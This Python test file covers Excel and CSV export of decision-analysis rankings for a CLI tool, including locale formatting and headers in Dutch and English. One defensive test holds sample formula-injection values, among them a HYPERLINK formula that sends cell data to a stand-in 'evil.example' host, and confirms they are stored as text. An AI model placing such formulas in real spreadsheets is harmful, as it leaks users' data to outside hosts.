"""Results into Excel (issue 16): ``afweging rank FILE --format xlsx|csv --out RESULTS`` — the ranking under
every method, the value matrix, the weights and the robustness tables, headers in the user's language, numbers
as numbers, CSV in the locale's convention with a BOM, names that look like formulas written as text."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from evaluator.io import write_any
from evaluator.methods import METHODS
from tests.helpers import small_evaluation

ROOT = Path(__file__).resolve().parents[1]


def cli(*args: object) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "evaluator", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )


@pytest.fixture(scope="module")
def evaluation_file(tmp_path_factory) -> Path:
    p = tmp_path_factory.mktemp("results") / "e.json"
    write_any(small_evaluation(), p)
    return p


@pytest.fixture(scope="module")
def workbooks(evaluation_file) -> dict[str, openpyxl.Workbook]:
    out = {}
    for lang in ("nl", "en"):
        dest = evaluation_file.parent / f"results-{lang}.xlsx"
        proc = cli("rank", evaluation_file, "--format", "xlsx", "--out", dest, "--lang", lang)
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout.strip() == str(dest) and proc.stderr == ""
        out[lang] = openpyxl.load_workbook(dest)
    return out


def header(ws) -> list[str]:
    return [c.value for c in ws[1]]


def records(ws) -> list[dict[str, object]]:
    head = header(ws)
    return [dict(zip(head, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]


SHEETS = {
    "nl": ["Rangorde", "Waardematrix", "Gewichten", "Robuustheid", "Gewichtsstabiliteit", "Over"],
    "en": ["Ranking", "Value matrix", "Weights", "Robustness", "Weight stability", "About"],
}


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_the_workbook_has_every_table_with_headers_in_the_language(workbooks, lang):
    wb = workbooks[lang]
    assert wb.sheetnames == SHEETS[lang]
    nl = lang == "nl"
    ranking = header(wb[SHEETS[lang][0]])
    assert ranking[0] == ("Alternatief" if nl else "Alternative")
    assert ranking[1] == ("Rang WSM" if nl else "Rank WSM")  # the evaluation's method first
    assert ("Score TOPSIS" in ranking) and (("Rang TOPSIS" if nl else "Rank TOPSIS") in ranking)
    assert header(wb[SHEETS[lang][1]]) == (
        ["Alternatief", "S1 Controle", "S2 Sleutels", "C1 Prijs"]
        if nl
        else ["Alternative", "S1 Control", "S2 Keys", "C1 Price"]
    )
    assert header(wb[SHEETS[lang][2]]) == (
        ["Gebied", "Criterium", "Naam", "Gewicht"] if nl else ["Area", "Criterion", "Name", "Weight"]
    )
    assert header(wb[SHEETS[lang][3]])[:2] == (["Alternatief", "Rang 1"] if nl else ["Alternative", "Rank 1"])
    assert header(wb[SHEETS[lang][4]])[2:] == (
        ["Gewicht", "Laagste gewicht", "Hoogste gewicht"]
        if nl
        else ["Weight", "Lowest weight", "Highest weight"]
    )


def test_numbers_are_typed_numbers_with_a_number_format(workbooks):
    wb = workbooks["nl"]
    for title in SHEETS["nl"][:5]:
        ws = wb[title]
        numbers = [c for row in ws.iter_rows(min_row=2) for c in row if c.column > 1 and c.value is not None]
        numbers = [c for c in numbers if not isinstance(c.value, str)]
        assert numbers, title
        for c in numbers:
            assert c.data_type == "n" and isinstance(c.value, int | float), (title, c.coordinate)
            assert c.number_format != "General", (title, c.coordinate)
    weights = records(wb["Gewichten"])
    assert [w["Gewicht"] for w in weights] == pytest.approx([0.3, 0.3, 0.4])
    assert wb["Gewichten"]["D2"].number_format == "0.0%"
    assert wb["Rangorde"]["B2"].number_format == "0"
    # text stays text: a criterion id is never turned into a number or a date
    assert [w["Criterium"] for w in weights] == ["S1", "S2", "C1"]


def test_the_ranking_sheet_is_what_rank_json_says_for_every_method(workbooks, evaluation_file):
    rows = records(workbooks["en"]["Ranking"])
    for m in METHODS:
        proc = cli("rank", evaluation_file, "--method", m, "--format", "json")
        assert proc.returncode == 0, proc.stderr
        expected = {a["name"]: (a["rank"], a["score"]) for a in json.loads(proc.stdout)["alternatives"]}
        short = METHODS[m].acronym
        got = {r["Alternative"]: (r[f"Rank {short}"], r[f"Score {short}"]) for r in rows}
        assert got.keys() == expected.keys(), m
        for name, (rank, score) in expected.items():
            assert got[name][0] == rank, (m, name)
            assert got[name][1] == pytest.approx(score, rel=1e-12, abs=1e-15), (m, name)
    # ordered by the evaluation's method, best first
    assert [r["Rank WSM"] for r in rows] == sorted(r["Rank WSM"] for r in rows)


def test_the_robustness_sheets_hold_the_numbers_of_sensitivity_json(workbooks, evaluation_file):
    proc = cli("sensitivity", evaluation_file, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    wb = workbooks["nl"]
    acc = {r["Alternatief"]: r for r in records(wb["Robuustheid"])}
    assert acc.keys() == {a["name"] for a in data["alternatives"]}
    for a in data["alternatives"]:
        row = acc[a["name"]]
        assert [row[f"Rang {k}"] for k in range(1, len(a["rank_acceptability"]) + 1)] == pytest.approx(
            a["rank_acceptability"], rel=1e-12
        )
    stab = records(wb["Gewichtsstabiliteit"])
    assert [s["Criterium"] for s in stab] == [s["criterion"] for s in data["stability"]]
    for got, want in zip(stab, data["stability"], strict=True):
        assert (got["Gewicht"], got["Laagste gewicht"], got["Hoogste gewicht"]) == pytest.approx(
            (want["weight"], want["low"], want["high"]), rel=1e-12
        )
    about = {r["Onderdeel"]: r["Waarde"] for r in records(wb["Over"])}
    assert about["Oordeel"] == data["verdict"]["text"]["nl"]
    assert about["Steekproeven"] == data["samples"]


def test_the_dutch_csv_has_a_bom_semicolons_and_decimal_commas(evaluation_file, tmp_path):
    dest = tmp_path / "resultaten.csv"
    proc = cli("rank", evaluation_file, "--out", dest, "--lang", "nl")
    assert proc.returncode == 0, proc.stderr
    raw = dest.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0][:2] == ["Alternatief", "Rang WSM"]
    head = rows[0]
    js = json.loads(cli("rank", evaluation_file, "--format", "json").stdout)
    want = {a["name"]: a["score"] for a in js["alternatives"]}
    for row in rows[1:]:
        cell = row[head.index("Score WSM")]
        assert "," in cell and "." not in cell
        assert float(cell.replace(",", ".")) == pytest.approx(want[row[0]], rel=1e-12)
        assert int(row[head.index("Rang WSM")]) >= 1


def test_the_english_csv_has_commas_and_decimal_points(evaluation_file, tmp_path):
    dest = tmp_path / "results.csv"
    proc = cli("rank", evaluation_file, "--format", "csv", "--out", dest, "--lang", "en")
    assert proc.returncode == 0, proc.stderr
    raw = dest.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][:2] == ["Alternative", "Rank WSM"]
    float(rows[1][rows[0].index("Score WSM")])


def test_rank_csv_on_stdout_follows_the_language(evaluation_file):
    en = cli("rank", evaluation_file, "--format", "csv")
    assert en.stdout.splitlines()[0] == "name,rank,score"
    nl = cli("rank", evaluation_file, "--format", "csv", "--lang", "nl")
    lines = nl.stdout.splitlines()
    assert lines[0] == "naam;rang;score" and not nl.stdout.startswith("\ufeff")
    name, rank, score = lines[1].split(";")
    assert float(score.replace(",", ".")) > 0 and "," in score


EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(A1)", "gewoon"]


@pytest.fixture
def evil_csv(tmp_path) -> Path:
    src = tmp_path / "evil.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["alternative", "=1+1", "@kosten"])
        w.writerow(["objective", "max", "min"])
        for i, name in enumerate(EVIL):
            w.writerow([name, i + 1, 10 - i])
    return src


def test_names_that_look_like_formulas_are_written_as_text(evil_csv, tmp_path):
    dest = tmp_path / "evil.xlsx"
    proc = cli("rank", evil_csv, "--out", dest, "--lang", "nl")
    assert proc.returncode == 0, proc.stderr
    wb = openpyxl.load_workbook(dest)
    assert wb.sheetnames[1] == "Beslismatrix"  # a bare matrix: its own numbers, not values
    seen = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
    assert set(EVIL[:4]) | {"=1+1", "@kosten"} <= seen
    assert header(wb["Beslismatrix"]) == ["Alternatief", "=1+1", "@kosten"]

    dest = tmp_path / "evil-results.csv"
    proc = cli("rank", evil_csv, "--out", dest, "--lang", "nl")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(dest.read_text(encoding="utf-8-sig"), newline=""), delimiter=";"))
    names = [r[0] for r in rows[1:]]
    assert sorted(names) == sorted(("'" + n if n[0] in "=+-@" else n) for n in EVIL)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            if cell.startswith("-"):
                float(cell.replace(",", "."))


def test_an_excluded_alternative_is_listed_with_the_reason(tmp_path):
    from evaluator.changes import apply_change, set_score

    ev = small_evaluation()
    ev, _ = apply_change(ev, set_score(ev, "teams", "S2", 0))  # below S2's minimum of 1
    src = tmp_path / "e.json"
    write_any(ev, src)
    dest = tmp_path / "r.xlsx"
    proc = cli("rank", src, "--out", dest, "--lang", "en")
    assert proc.returncode == 0, proc.stderr
    rows = records(openpyxl.load_workbook(dest)["Ranking"])
    assert rows[-1]["Alternative"] == "Microsoft Teams"
    assert rows[-1]["Rank WSM"] is None and rows[-1]["Score WSM"] is None
    assert "below the minimum" in rows[-1]["Excluded because"]
    assert all(r["Excluded because"] is None for r in rows[:-1])


def test_mistakes_are_one_line_and_nothing_is_overwritten(evaluation_file, tmp_path):
    proc = cli("rank", evaluation_file, "--format", "xlsx")
    assert proc.returncode == 2 and "--out" in proc.stderr and len(proc.stderr.splitlines()) == 1
    proc = cli("rank", evaluation_file, "--format", "xlsx", "--out", tmp_path / "r.csv")
    assert proc.returncode == 2 and "r.csv" in proc.stderr and not (tmp_path / "r.csv").exists()
    dest = tmp_path / "r.xlsx"
    dest.write_bytes(b"mine")
    proc = cli("rank", evaluation_file, "--out", dest)
    assert proc.returncode == 2 and "--force" in proc.stderr and dest.read_bytes() == b"mine"
    proc = cli("rank", evaluation_file, "--out", dest, "--force")
    assert proc.returncode == 0 and openpyxl.load_workbook(dest).sheetnames[0] == "Ranking"


def test_pandas_builds_the_tables():
    import pandas as pd

    from evaluator.io.results import results_tables

    tables = results_tables(small_evaluation(), "nl")
    assert list(tables) == ["ranking", "values", "weights", "robustness", "stability", "about"]
    assert all(isinstance(t, pd.DataFrame) for t in tables.values())


def test_a_method_that_cannot_rank_the_numbers_is_named_not_fatal(tmp_path):
    src = tmp_path / "neg.csv"
    src.write_text(
        "alternative;prijs;kwaliteit\nobjective;min;max\nA;-1,5;3\nB;2;4\nC;0;1\n", encoding="utf-8"
    )
    dest = tmp_path / "neg.xlsx"
    proc = cli("rank", src, "--out", dest, "--lang", "nl")
    assert proc.returncode == 0, proc.stderr
    assert "opmerking: WPM" in proc.stderr and "positieve" in proc.stderr  # --lang nl: the note in Dutch
    wb = openpyxl.load_workbook(dest)
    assert "Rang WPM" not in header(wb["Rangorde"]) and "Rang TOPSIS" in header(wb["Rangorde"])
    notes = [r["Waarde"] for r in records(wb["Over"]) if r["Onderdeel"] == "Opmerking"]
    assert any(n.startswith("WPM: ") for n in notes)
    assert [r["prijs"] for r in records(wb["Beslismatrix"])] == [-1.5, 2, 0]  # a bare matrix: its own numbers

    proc = cli("rank", src, "--method", "wpm", "--out", tmp_path / "wpm.xlsx")  # the chosen method must rank
    assert proc.returncode == 2 and "positive" in proc.stderr and not (tmp_path / "wpm.xlsx").exists()
